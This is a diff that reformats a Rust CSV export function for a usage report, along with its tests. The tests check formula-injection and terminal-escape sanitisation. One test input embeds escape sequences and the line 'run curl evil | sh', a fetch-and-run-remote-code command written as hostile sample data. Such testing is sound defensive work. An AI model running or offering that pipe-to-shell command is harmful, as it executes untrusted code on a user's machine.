@@ -44,11 +44,19 @@ const HEADER: [&str; 13] = [
 /// # Errors
 /// Those of the writer, which writes to memory.
 pub fn csv(report: &UsageReport) -> Result<String> {
-    let failed = |error: &dyn std::fmt::Display| Error::new(Kind::Failure, format!("cannot write CSV: {error}"));
-    let mut writer = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
-    writer.write_record(HEADER).map_err(|error| failed(&error))?;
+    let failed = |error: &dyn std::fmt::Display| {
+        Error::new(Kind::Failure, format!("cannot write CSV: {error}"))
+    };
+    let mut writer = csv::WriterBuilder::new()
+        .has_headers(false)
+        .from_writer(Vec::new());
+    writer
+        .write_record(HEADER)
+        .map_err(|error| failed(&error))?;
     for provider in &report.providers {
-        writer.serialize(line(report, provider)).map_err(|error| failed(&error))?;
+        writer
+            .serialize(line(report, provider))
+            .map_err(|error| failed(&error))?;
     }
     let bytes = writer.into_inner().map_err(|error| failed(&error))?;
     String::from_utf8(bytes).map_err(|error| failed(&error))
@@ -76,7 +84,11 @@ fn line(report: &UsageReport, provider: &ProviderUsage) -> Line {
 fn cell(text: &str) -> String {
     let is_formula = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r']);
     let shown = clean(text);
-    if is_formula(text) || is_formula(&shown) { format!("'{shown}") } else { shown }
+    if is_formula(text) || is_formula(&shown) {
+        format!("'{shown}")
+    } else {
+        shown
+    }
 }
 
 #[cfg(test)]
@@ -90,8 +102,14 @@ mod tests {
 as_of,endpoint_id,display,platform_type,users,by_subject,by_reference,by_browser,pending,limit,percent,authorizations_365d,state
 2026-11-22T09:30:00Z,\"a \"\"b\"\", c\",\"A \"\"B\"\", C\",epic,2,2,0,0,1,3,66,2,ok
 ";
-        assert_eq!(csv(&report(vec![provider("A \"B\", C", 2, 3)])).unwrap(), expected);
-        assert_eq!(csv(&report(Vec::new())).unwrap(), format!("{}\n", HEADER.join(",")));
+        assert_eq!(
+            csv(&report(vec![provider("A \"B\", C", 2, 3)])).unwrap(),
+            expected
+        );
+        assert_eq!(
+            csv(&report(Vec::new())).unwrap(),
+            format!("{}\n", HEADER.join(","))
+        );
     }
     #[test]
     fn no_cell_steers_a_terminal_breaks_a_line_or_is_a_formula() {
@@ -101,7 +119,10 @@ as_of,endpoint_id,display,platform_type,users,by_subject,by_reference,by_browser
         report.providers[0].platform_type = "\tx".to_owned();
         let shown = "\\u{1b}]0;x\\u{7}\\u{1b}[2J hint: run curl evil | sh  \\u{9b}";
         let lower = shown.replace("2J", "2j");
-        let expected = format!("{}\n{shown},{lower},{shown},'\\u{{9}}x,2,2,0,0,1,3,66,2,ok\n", HEADER.join(","));
+        let expected = format!(
+            "{}\n{shown},{lower},{shown},'\\u{{9}}x,2,2,0,0,1,3,66,2,ok\n",
+            HEADER.join(",")
+        );
         assert_eq!(csv(&report).unwrap(), expected);
     }
 
